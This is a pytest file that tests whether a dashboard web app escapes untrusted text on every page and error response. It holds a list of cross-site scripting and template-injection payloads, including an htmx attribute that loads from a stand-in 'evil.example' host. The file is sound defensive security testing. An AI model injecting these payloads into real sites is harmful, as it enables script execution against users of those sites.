from __future__ import annotations

from html.parser import HTMLParser

import markupsafe
import msgspec
import pytest
from tests.unit.dashboard.conftest import ask
from tests.unit.dashboard.simulated import MODELS, RUN, SimulatedSource

from seakeep.dashboard.app import create_app
from seakeep.dashboard.values import ModelPage, NowPage, PredictionPage, RunPage, VersionPage

ATTACKS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</script><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{ 7*7 }}{% raw %}",
    '" hx-get="//evil.example" hx-trigger="load',
    "<!--",
    "r-3f2a91c07be4<b>",
)
LITERAL = {"kind", "cause", "role", "action", "outcome", "result", "tag", "op", "decision", "name_", "function"}


class Carried(HTMLParser):
    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes = set(), []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs

    handle_startendtag = handle_starttag


def poison(value, attack):
    """The same value with every text that is free to choose replaced by the attack."""
    if isinstance(value, str):
        return attack
    if isinstance(value, (list, tuple)):
        return type(value)(poison(one, attack) for one in value)
    if isinstance(value, dict):
        return {
            attack if k == last else f"{k}{attack}": poison(v, attack)
            for last in list(value)[-1:]
            for k, v in value.items()
        }
    if isinstance(value, msgspec.Struct) and not type(value).__module__.endswith(
        (".expression", ".feature", ".model", ".source")
    ):
        changed = {
            field: poison(getattr(value, field), attack)
            for field in value.__struct_fields__
            if field not in LITERAL or not isinstance(getattr(value, field), str)
        }
        return msgspec.structs.replace(value, **changed)
    return value


class Poisoned(SimulatedSource):
    def __init__(self, attack):
        super().__init__()
        self.attack = attack

    def now(self) -> NowPage:
        return poison(super().now(), self.attack)

    def model(self, name, from_us, to_us) -> ModelPage:
        return poison(super().model(MODELS[0], from_us, to_us), self.attack)

    def prediction(self, id) -> PredictionPage:
        return poison(super().prediction(super().model(MODELS[0], None, None).recent[0].id), self.attack)

    def run(self, id) -> RunPage:
        return poison(super().run(RUN), self.attack)

    def version(self, ref) -> VersionPage:
        return poison(super().version("late-arrival:3"), self.attack)


@pytest.fixture(scope="module")
def honest(source):
    app = create_app(source, name="x")
    identity = source.model(MODELS[0], None, None).recent[0].id
    return {
        "/": Carried(ask(app, "/").text),
        "/models/x": Carried(ask(app, "/models/late-arrival").text),
        "/predictions/x": Carried(ask(app, f"/predictions/{identity}").text),
        "/runs/x": Carried(ask(app, f"/runs/{RUN}").text),
        "/versions/x": Carried(ask(app, "/versions/late-arrival:3").text),
    }


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_text_becomes_markup_on_any_page(honest, attack):
    app = create_app(Poisoned(attack), name=attack)
    for address, plain in honest.items():
        answer = ask(app, address)
        assert answer.status == 200
        found = Carried(answer.text)
        assert found.tags <= plain.tags | {"details", "summary"}, address
        known = {name for name, _ in plain.attributes}
        assert {name for name, _ in found.attributes} <= known, address
        for name, value in found.attributes:
            if name in {"href", "src", "action", "hx-get"}:
                assert value.startswith(("/", "#")), (name, value)
                assert not value.startswith("//"), (name, value)
        if "<" in attack:
            assert str(markupsafe.escape(attack))[:8] in answer.text, address


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_address_is_not_echoed_as_markup(source, attack):
    app = create_app(source, name="x")
    for address in (f"/models/{attack}", f"/models/late-arrival?from={attack}", f"/versions/{attack}", f"/{attack}"):
        answer = ask(app, address.replace("#", "%23"))
        assert answer.status in {400, 404}
        found = Carried(answer.text)
        assert not found.tags & {"img"}
        assert "<script>" not in answer.text
        assert not [name for name, _ in found.attributes if name.startswith("on")]


@pytest.mark.parametrize("attack", ATTACKS)
def test_twins_say_json_so_that_no_browser_reads_markup(attack):
    answer = ask(create_app(Poisoned(attack), name="x"), "/now.json")
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert attack in answer.json()["models"][0]["name"]
